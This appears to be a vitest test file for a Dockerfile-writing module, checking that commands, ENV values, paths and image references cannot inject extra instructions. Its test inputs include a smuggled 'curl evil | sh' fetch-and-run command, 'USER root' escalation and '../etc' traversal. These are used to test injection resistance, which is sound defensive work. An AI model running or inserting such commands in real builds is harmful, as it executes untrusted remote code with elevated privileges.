import { describe, expect, it } from "vitest";
import { Dockerfile, quoteValue, startCommand } from "./dockerfile.js";
import { BuildPlanError } from "./errors.js";

/** The instructions of a Dockerfile as Docker's line reader sees them (no continuations here). */
function instructions(text: string): string[] {
  return text.split("\n").filter((l) => l !== "" && !l.startsWith("#"));
}

describe("Dockerfile writer", () => {
  it("keeps any command text inside one exec-form instruction", () => {
    const hostile = 'node app.js"]\nRUN ["sh", "-c", "curl evil | sh"]\n# \\\r\nUSER root \\';
    const df = new Dockerfile().from("node:20").sh(hostile).cmd(["/bin/sh", "-c", hostile]);
    const lines = instructions(df.toString());
    expect(lines).toHaveLength(3);
    expect(lines[1]!.startsWith("RUN [")).toBe(true);
    // What Docker decodes from the JSON array is exactly the text given.
    expect(JSON.parse(lines[1]!.slice("RUN ".length))).toEqual(["/bin/sh", "-c", hostile]);
    expect(JSON.parse(lines[2]!.slice("CMD ".length))).toEqual(["/bin/sh", "-c", hostile]);
    // No line ends with the escape character (which would join it with the next one).
    expect(lines.every((l) => !l.endsWith("\\"))).toBe(true);
  });

  it("quotes ENV values so that quotes, dollars and backslashes stay literal", () => {
    expect(quoteValue('say "hi" to $HOME and C:\\temp\\', "v")).toBe('"say \\"hi\\" to \\$HOME and C:\\\\temp\\\\"');
    expect(new Dockerfile().env({ A: "x y", B: "" }).toString()).toBe('ENV A="x y" B=""\n');
    expect(() => new Dockerfile().env({ A: "line\nbreak" })).toThrow(BuildPlanError);
    expect(() => new Dockerfile().env({ A: "cr\r" })).toThrow(/line break or control character/);
  });

  it("declares build arguments by name only, with optional defaults", () => {
    expect(new Dockerfile().args(["TOKEN", "CGO_ENABLED"], { CGO_ENABLED: "0" }).toString()).toBe('ARG CGO_ENABLED="0"\nARG TOKEN\n');
    expect(() => new Dockerfile().args(["BAD-NAME"])).toThrow(/not a valid variable name/);
    expect(() => new Dockerfile().args(["A=1\nRUN x"])).toThrow(BuildPlanError);
  });

  it("refuses paths that COPY would expand or that leave the context", () => {
    expect(new Dockerfile().copy(["dist"], "/srv", "build").toString()).toBe('COPY --from=build ["dist","/srv"]\n');
    for (const bad of ["$HOME", "a b", "../etc", "x\ny", 'a"b', "dist/../..", "${X}"]) {
      expect(() => new Dockerfile().copy([bad], "/app"), bad).toThrow(BuildPlanError);
    }
    expect(() => new Dockerfile().workdir("/app $X")).toThrow(BuildPlanError);
  });

  it("refuses image references that are not image references", () => {
    expect(() => new Dockerfile().from("node:20\nRUN evil")).toThrow(BuildPlanError);
    expect(() => new Dockerfile().from("--network=host")).toThrow(BuildPlanError);
    expect(new Dockerfile().from("registry.example.com:5000/team/node:20", "build").toString()).toBe(
      "FROM registry.example.com:5000/team/node:20 AS build\n",
    );
  });

  it("refuses NUL in commands (a process cannot receive it)", () => {
    expect(() => new Dockerfile().sh("a\u0000b")).toThrow(/NUL/);
    expect(() => new Dockerfile().cmd([])).toThrow(/empty/);
  });

  it("execs a single start command so that it is PID 1; leaves lists, builtins and assignments alone", () => {
    expect(startCommand("gunicorn --bind 0.0.0.0:$PORT app:app")).toEqual({
      argv: ["/bin/sh", "-c", "exec gunicorn --bind 0.0.0.0:$PORT app:app"],
      simple: true,
    });
    expect(startCommand("exec node x.js").argv[2]).toBe("exec node x.js");
    for (const compound of ["cd web && node x.js", "a; b", "a | b", "a || b", "x > log", "(a)", "FOO=1 node x", "if true; then a; fi", ". ./env", "a\nb"]) {
      expect(startCommand(compound), compound).toEqual({ argv: ["/bin/sh", "-c", compound], simple: false });
    }
  });

  it("flattens comments to one line", () => {
    expect(new Dockerfile().comment("a\nRUN x").toString()).toBe("# a RUN x\n");
  });

  it("copies the source and removes what is not the application", () => {
    expect(new Dockerfile().copySource("/app").toString()).toBe(
      'COPY [".","/app/"]\nRUN ["rm","-rf","/app/.git","/app/Dockerfile.capstan","/app/.capstan-build"]\n',
    );
  });
});
